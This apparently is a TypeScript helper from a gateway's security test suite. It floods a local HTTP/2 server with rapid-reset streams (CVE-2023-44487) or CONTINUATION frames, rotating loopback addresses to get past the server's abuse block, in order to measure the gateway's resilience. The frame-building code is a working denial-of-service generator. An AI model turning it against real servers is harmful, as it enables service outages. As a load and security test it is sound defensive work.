import { createSecureContext } from 'node:tls'
import { FRAME, frame, headerBlock, headers, openH2, requestFields, type RawH2 } from './h2-frames.js'

/*
 * An HTTP/2 flooder in a process of its own (test/security/http2-flood.test.ts): rapid resets
 * (CVE-2023-44487) or a CONTINUATION flood from fresh connections, one after the other, until told
 * time is up. Apart from the gateway's process, so that what the flood costs the gateway is measured,
 * not what sending it costs the test's event loop.
 *
 * argv[2]: JSON FloodOrder. Prints "ready" once its frames are built, floods on a line "go" on stdin,
 * then prints the FloodCount as JSON and exits.
 */

export type FloodKind = 'rapid reset' | 'CONTINUATION'
export interface FloodOrder {
  port: number
  ca: string
  kind: FloodKind
  /** Loopback addresses to connect from, in turn (the gateway refuses an abuser's address for a while). */
  addresses: string[]
  /** Header fields of each flood request beside the pseudo-headers (a token, or none). */
  fields: Array<[string, string]>
  durationMs: number
}
export interface FloodCount { connections: number, refused: number }

/** What a flooder sends on each connection, made once (stream ids start again at 1 on each). */
function floodFrames (kind: FloodKind, fields: Array<[string, string]>): Buffer[] {
  if (kind === 'rapid reset') {
    return Array.from({ length: 20 }, (_, batch) => Buffer.concat(Array.from({ length: 100 }, (_, i) => {
      const id = 1 + 2 * (batch * 100 + i)
      return Buffer.concat([headers(id, requestFields('GET', '/public/flood', fields), { endStream: true }), frame(FRAME.RST_STREAM, 0, id, Buffer.from([0, 0, 0, 8]))])
    })))
  }
  const continuation = frame(FRAME.CONTINUATION, 0, 1, headerBlock([['x-a', 'b'.repeat(200)]]))
  const bursts = Array.from({ length: 50 }, () => Buffer.concat(Array.from({ length: 100 }, () => continuation)))
  return [headers(1, requestFields('GET', '/public/flood', fields), { endHeaders: false }), ...bursts]
}

async function flood (order: FloodOrder, until: number): Promise<FloodCount> {
  const tls = createSecureContext({ ca: order.ca })
  const bursts = floodFrames(order.kind, order.fields)
  const count: FloodCount = { connections: 0, refused: 0 }
  for (let n = 0; Date.now() < until; n++) {
    let c: RawH2
    try {
      c = await openH2(order.port, tls, '127.0.0.1', order.addresses[n % order.addresses.length])
    } catch {
      count.refused++ // refused before TLS (limits.http2.abusePenaltySeconds): try the next address at once
      continue
    }
    count.connections++
    // A burst per event-loop turn: 100 reset streams, or 100 CONTINUATION frames.
    for (const burst of bursts) {
      if (!c.socket.writable || Date.now() >= until) break
      c.send(burst)
      await new Promise(resolve => setImmediate(resolve))
    }
    await Promise.race([c.closed, new Promise(resolve => setTimeout(resolve, 2000))])
    c.close()
  }
  return count
}

const order = JSON.parse(process.argv[2]!) as FloodOrder
process.stdout.write('ready\n')
process.stdin.once('data', () => {
  void flood(order, Date.now() + order.durationMs).then(count => {
    process.stdout.write(JSON.stringify(count) + '\n')
    process.exit(0)
  })
})
